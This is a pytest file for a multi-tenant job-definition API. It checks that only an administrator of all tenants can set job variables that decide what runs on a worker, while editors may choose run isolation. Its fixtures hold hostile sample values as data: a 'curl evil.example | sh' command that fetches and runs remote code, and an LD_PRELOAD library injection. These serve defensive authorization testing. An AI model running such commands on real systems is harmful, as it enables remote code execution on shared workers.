"""Job variables decide what runs on a worker, which works for all tenants."""

from typing import Any

import pytest

COMMAND = {"command": "curl evil.example | sh"}


@pytest.mark.parametrize("who", ["editor", "editor@{}", "admin@{}"])
@pytest.mark.parametrize(
    "variables", [COMMAND, {"env": {"LD_PRELOAD": "/tmp/x.so"}}, {"image": "evil"}]
)
async def test_they_take_an_administrator_of_all_tenants(
    api: Any, acme: str, definitions: str, a_definition: Any, who: str, variables: dict[str, Any]
) -> None:
    wanted = {**a_definition(), "job_variables": variables}
    [name] = variables
    who = who.format(acme)
    for answer in (
        await api.post(definitions, who, json=wanted),
        await api.put(f"{definitions}/nightly", who, json=wanted),
        await api.put(definitions, who, json={"definitions": [wanted]}),
    ):
        assert answer.status_code == 403
        assert answer.json()["errors"][0]["field"].endswith(f"job_variables.{name}")

    created = await api.post(definitions, "admin", json=wanted)
    assert created.json()["job_variables"] == variables
    path = f"{definitions}/nightly"
    # What stands there may stay, but neither change nor go.
    assert (await api.patch(path, who, json={"title": "Other"})).status_code == 200
    assert (await api.patch(path, who, json={"job_variables": None})).status_code == 403
    assert (await api.get(path)).json()["job_variables"] == variables


async def test_how_a_run_is_isolated_is_an_editors_to_say(
    api: Any, acme: str, definitions: str, a_definition: Any
) -> None:
    variables = {"isolation": "process", "restart": False}
    wanted = {**a_definition(), "job_variables": variables}
    created = await api.post(definitions, f"editor@{acme}", json=wanted)
    assert created.json()["job_variables"] == variables
